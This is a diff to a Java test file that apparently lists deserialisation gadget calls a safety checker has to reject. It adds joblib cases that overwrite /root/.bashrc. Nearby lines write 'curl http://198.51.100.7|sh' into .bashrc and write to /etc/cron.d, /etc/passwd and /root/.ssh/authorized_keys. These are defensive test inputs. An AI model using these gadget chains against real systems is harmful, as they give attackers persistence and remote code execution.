@@ -244,6 +244,12 @@ final class CallableTrials {
                         call("pathlib:PosixPath", text("/root/.bashrc")),
                         text("curl http://198.51.100.7|sh")));
         bad("write-numpy", call("numpy:save", text("/etc/cron.d/x"), text("a")));
+        bad("log-over-a-file", call("joblib.logger:PrintTime", text("/root/.bashrc")));
+        bad(
+                "kept-result",
+                call(
+                        "joblib.memory:MemorizedResult.get",
+                        call("joblib.memory:MemorizedResult", text("/tmp/x"), text("f"))));
         bad("memmap-write", call("numpy:memmap", text("/etc/passwd"), text("u1"), text("r+")));
         bad("file-io", call("io:FileIO", text("/root/.ssh/authorized_keys"), text("a")));
         bad(
